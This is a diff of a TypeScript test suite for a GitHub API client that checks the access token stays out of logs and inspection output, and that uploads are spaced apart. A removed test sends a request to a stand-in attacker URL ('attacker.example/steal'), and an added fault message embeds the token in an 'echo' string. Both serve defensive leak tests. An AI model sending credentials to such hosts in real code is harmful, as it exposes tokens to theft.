@@ -5,7 +5,6 @@ import assert from 'node:assert/strict';
 import { after, before, beforeEach, describe, it } from 'node:test';
 import { inspect } from 'node:util';
 import { createGitHubService } from '../../src/github/index.ts';
-import { RestClient } from '../../src/github/rest-client.ts';
 import { ENDPOINTS, startGitHubApi, type GitHubApiStandIn } from '../../testkit/github-api/index.ts';
 import { client, closedPort, dsseBundle, failure, hex, QUICK, REPO } from './helpers.ts';
 
@@ -120,17 +119,42 @@ describe('a GitHub API that is down', () => {
 });
 
 describe('the token', () => {
-  it('does not show when the client is inspected or logged', () => {
+  it('does not show when the service is inspected or logged', () => {
     const token = 'ghs_inspectMe0123456789abcdef';
-    const rest = new RestClient({ apiUrl: 'https://api.github.com', token });
-    assert.ok(!inspect(rest, { depth: 5, showHidden: true }).includes(token));
-    assert.ok(!JSON.stringify(rest).includes(token));
+    const github = createGitHubService({ apiUrl: 'https://api.github.com', serverUrl: 'https://github.com', token });
+    assert.ok(!inspect(github, { depth: 8, showHidden: true }).includes(token));
+    assert.ok(!JSON.stringify(github).includes(token));
   });
 
-  it('is never sent to a host other than the API and its uploads host', async () => {
-    const token = 'ghs_neverElsewhere0123456789';
-    const rest = new RestClient({ apiUrl: 'https://api.github.com', token, retry: QUICK });
-    const err = await failure(() => rest.send({ method: 'GET', url: 'https://attacker.example/steal' }), token);
-    assert.match(err.message, /not GitHub's API or upload host/);
+  it('stays out of octokit: its debug lines never carry it, even for requests that fail', async () => {
+    const api = await startGitHubApi();
+    try {
+      const lines: string[] = [];
+      api.createRelease(REPO, 'v9.0.0');
+      api.faults['release-by-tag'].push(503, { status: 403, message: `echo ${api.token}` });
+      const github = createGitHubService({ apiUrl: api.url, serverUrl: 'https://github.com', token: api.token, retry: QUICK, writeIntervalMs: 0, debug: (line) => lines.push(line) });
+      await failure(() => github.listReleaseBundles(REPO, 'v9.0.0'), api.token);
+      assert.ok(lines.some((l) => /GET \/repos\/octo-org\/octo-repo\/releases\/tags\/v9\.0\.0 - 503/.test(l)), `octokit's per-attempt lines reach debug:\n${lines.join('\n')}`);
+      assert.ok(lines.every((l) => !l.includes(api.token) && !/authorization/i.test(l)), lines.join('\n'));
+    } finally {
+      await api.stop();
+    }
+  });
+});
+
+describe("GitHub's spacing of writes", () => {
+  it('leaves at least the write interval between two uploads (plugin-throttling)', async () => {
+    const api = await startGitHubApi();
+    try {
+      api.createRelease(REPO, 'v8.0.0');
+      await client(api, {}, 600).publishReleaseAssets(REPO, 'v8.0.0', [file('a.sigstore.json', '{}'), file('b.sigstore.json', '{}')], { replace: false });
+      const [first, second] = api.requestsTo('upload-asset');
+      assert.ok(first && second);
+      // The interval is kept between the writes leaving the client; a first one that reached the stand-in
+      // late (a busy machine) narrows the gap seen here, hence the margin.
+      assert.ok(second.at - first.at >= 450, `uploads ${Math.round(second.at - first.at)} ms apart`);
+    } finally {
+      await api.stop();
+    }
   });
 });
